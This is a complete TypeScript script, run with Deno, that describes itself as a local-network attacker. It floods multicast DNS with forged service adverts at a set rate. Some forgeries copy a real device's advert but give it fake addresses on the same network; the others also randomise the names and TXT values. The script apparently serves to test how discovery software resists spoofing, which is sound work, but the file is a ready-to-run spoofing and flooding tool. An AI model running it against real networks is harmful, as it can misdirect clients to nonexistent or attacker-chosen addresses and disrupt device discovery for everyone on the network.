/**
 * An attacker on the local network: sends forged adverts by multicast DNS, well-formed, each another
 * one. A share of them is a device's own advert with wrong addresses; in the others the names and the
 * tag are random, too. Prints how many it has sent.
 *
 *   deno run -A mdns_flood.ts IPV4_ADDRESS ADVERT_HEX PER_SECOND SECONDS
 */
import { createSocket } from "node:dgram";
import { readDnsMessage, textStrings } from "./dns_message.ts";

const PORT = 5353;
const GROUP = "224.0.0.251";
/** One in so many keeps the tag of the device. */
const COPIED = 5;
const BURST_MS = 10;

const [address, hex, rate, seconds] = Deno.args as [string, string, string, string];
const advert = Uint8Array.fromHex(hex);
const { records } = readDnsMessage(advert);
const service = records.find(({ type }) => type === "SRV")!;
const names = [service.name, service.text].map((name) => name.split(".")[0]!);

const socket = createSocket({ type: "udp4", reuseAddr: true });
await new Promise<void>((resolve) => socket.bind(PORT, address, resolve));
socket.setMulticastInterface(address);
socket.setMulticastTTL(255);

let sent = 0;
const startedMs = performance.now();
while (performance.now() - startedMs < Number(seconds) * 1_000) {
  const due = (performance.now() - startedMs) / 1_000 * Number(rate);
  for (; sent < due; sent++) socket.send(forged(sent % COPIED === 0), PORT, GROUP);
  await new Promise((resolve) => setTimeout(resolve, BURST_MS));
}
console.log(`sent ${sent}`);
socket.close();

/** The advert with other bytes in the same places. */
function forged(keepsTag: boolean): Uint8Array {
  const bytes = advert.slice();
  for (const { type, dataAt, data } of records) {
    // Addresses of the same network that nobody has, as an attacker would choose them.
    if (type === "A") bytes[dataAt + 3] = 100 + random(150);
    if (type === "AAAA") crypto.getRandomValues(bytes.subarray(dataAt + 8, dataAt + 16));
    if (type === "TXT" && !keepsTag) {
      for (const { start, end } of textStrings(data)) {
        scramble(bytes.subarray(dataAt + start, dataAt + end));
      }
    }
  }
  if (!keepsTag) { for (const name of names) rename(bytes, name); }
  return bytes;
}

/** Random characters behind the `=` of `key=value`; the version stays what it is. */
function scramble(text: Uint8Array): void {
  const value = text.subarray(text.indexOf(0x3d) + 1);
  if (value.length > 1) value.set(randomHex(value.length));
}

/** Another label of the same length wherever this one stands. */
function rename(bytes: Uint8Array, label: string): void {
  const wanted = new TextEncoder().encode(label);
  const other = randomHex(wanted.length);
  for (let at = 0; at + wanted.length <= bytes.length; at++) {
    if (wanted.every((byte, index) => bytes[at + index] === byte)) bytes.set(other, at);
  }
}

function randomHex(length: number): Uint8Array {
  const digits = Array.from({ length }, () => random(16).toString(16)).join("");
  return new TextEncoder().encode(digits);
}

function random(below: number): number {
  return Math.floor(Math.random() * below);
}
